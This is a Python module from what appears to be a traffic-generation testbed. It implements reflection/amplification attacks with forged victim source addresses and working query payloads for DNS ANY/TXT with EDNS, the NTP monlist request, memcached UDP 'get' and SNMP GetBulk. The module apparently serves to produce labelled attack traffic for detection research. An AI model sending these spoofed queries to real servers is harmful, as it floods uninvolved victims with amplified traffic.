"""Amplification: small questions in a victim's name, to servers that answer it at length."""

from __future__ import annotations

import random
import re
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass

from wirelens_testbed.attacks import frames
from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.frame_sender import evenly
from wirelens_testbed.attacks.labels import Reflection
from wirelens_testbed.attacks.victims import LARGE_DNS_NAME, MEMCACHED_KEY, SNMP_COMMUNITY
from wirelens_testbed.scenario import Table

PROGRAMS: dict[str, str] = {}

DNS_TYPE_TXT, DNS_TYPE_ANY, DNS_TYPE_OPT = 16, 255, 41
DNS_PAYLOAD_SIZE_BYTES = 4096
SNMP_REPETITIONS = 50


@dataclass(frozen=True)
class Amplifier:
    service: str
    port: int
    question: Callable[[random.Random], bytes]


@dataclass
class Amplification(Attack):
    """Forged questions at a steady rate; their answers go to one of the clients."""

    name: str
    query_count: int
    rate_per_s: float
    victim_port_count: int

    def __post_init__(self) -> None:
        self.needs = frozenset({AMPLIFIERS[self.name].service})
        sending_s = self.query_count / self.rate_per_s
        self.bounds = Bounds(self.query_count + OVERHEAD_PACKETS, 2 * sending_s + 5)

    def launch(self, scene: Scene) -> dict[str, object]:
        amplifier = AMPLIFIERS[self.name]
        reflector = scene.servers[amplifier.service]
        victim = self._victim(scene)
        ports = scene.victim_ports[: self.victim_port_count]
        sent = []
        for _ in range(self.query_count):
            datagram = frames.udp(
                victim, reflector.address, (scene.rng.choice(ports), amplifier.port),
                amplifier.question(scene.rng),
            )  # fmt: skip
            packet = frames.ipv4(
                victim, reflector.address, socket.IPPROTO_UDP, datagram,
                ident=scene.rng.getrandbits(16),
            )  # fmt: skip
            macs = frames.mac_bytes(scene.attacker.mac), frames.mac_bytes(reflector.mac)
            sent.append(frames.ethernet(*macs, frames.ETHER_TYPE_IPV4, packet))
        said = scene.send_frames(evenly(sent, self.rate_per_s))
        counted = re.search(r'"sent": (\d+)', said)
        return {
            "victim": victim,
            "reflector": reflector.address,
            "tool_sent": int(counted[1]) if counted else 0,
        }

    def reflection(self, scene: Scene) -> Reflection:
        amplifier = AMPLIFIERS[self.name]
        reflector = socket.inet_aton(scene.servers[amplifier.service].address)
        return Reflection(
            reflectors=frozenset({(reflector, amplifier.port)}),
            victim=socket.inet_aton(self._victim(scene)),
            victim_ports=scene.victim_ports,
        )

    def _victim(self, scene: Scene) -> str:
        # Drawn by the number and not by `rng`, since it is asked for more than once.
        return scene.clients[scene.number % len(scene.clients)].address


def dns_question(rng: random.Random) -> bytes:
    """Everything of a name with much to say, with leave to answer in 4096 bytes (RFC 6891)."""
    kind = rng.choice((DNS_TYPE_TXT, DNS_TYPE_ANY))
    extension = b"\0" + struct.pack("!HHIH", DNS_TYPE_OPT, DNS_PAYLOAD_SIZE_BYTES, 0, 0)
    return frames.dns_question(rng.getrandbits(16), LARGE_DNS_NAME, kind, extension)


def ntp_question(rng: random.Random) -> bytes:
    """MON_GETLIST_1 of ntpd's private mode 7, as in 2014 (CVE-2013-5211)."""
    version = rng.choice((2, 3))
    return bytes([version << 3 | 7, 0, 3, 42]) + bytes(rng.choice((4, 188)))


def memcached_question(rng: random.Random) -> bytes:
    """A frame header and one `get` of a key that holds much (CVE-2018-1000115)."""
    request = f"get {MEMCACHED_KEY}\r\n".encode()
    return struct.pack("!4H", rng.getrandbits(16), 0, 1, 0) + request


def snmp_question(rng: random.Random) -> bytes:
    """GetBulk of the whole system group, SNMP version 2c (RFC 3416)."""
    identifier = bytes([0x2B, 6, 1, 2, 1])  # 1.3.6.1.2.1
    binding = _ber(0x30, _ber(0x06, identifier) + _ber(0x05, b""))
    request = _ber_number(rng.randrange(1, 1 << 31))
    pdu = request + _ber_number(0) + _ber_number(SNMP_REPETITIONS) + _ber(0x30, binding)
    message = _ber_number(1) + _ber(0x04, SNMP_COMMUNITY.encode()) + _ber(0xA5, pdu)
    return _ber(0x30, message)


def _ber(tag: int, content: bytes) -> bytes:
    # Below 128 bytes the length is one byte (X.690, 8.1.3.4), and no question here is longer.
    assert len(content) < 128
    return bytes([tag, len(content)]) + content


def _ber_number(value: int) -> bytes:
    return _ber(0x02, value.to_bytes(value.bit_length() // 8 + 1, "big"))


AMPLIFIERS = {
    "amplify_dns": Amplifier("names", 53, dns_question),
    "amplify_ntp": Amplifier("time", 123, ntp_question),
    "amplify_snmp": Amplifier("devices", 161, snmp_question),
    "amplify_memcached": Amplifier("cache", 11211, memcached_question),
}


def parse(name: str, table: Table) -> Attack:
    return Amplification(
        name=name,
        query_count=table.take("queries", int, 100, minimum=1, maximum=10_000),
        rate_per_s=table.take("rate_per_s", float, 20.0, minimum=0.5, maximum=500),
        victim_port_count=table.take("victim_ports", int, 8, minimum=1, maximum=64),
    )


ATTACKS = dict.fromkeys(AMPLIFIERS, parse)
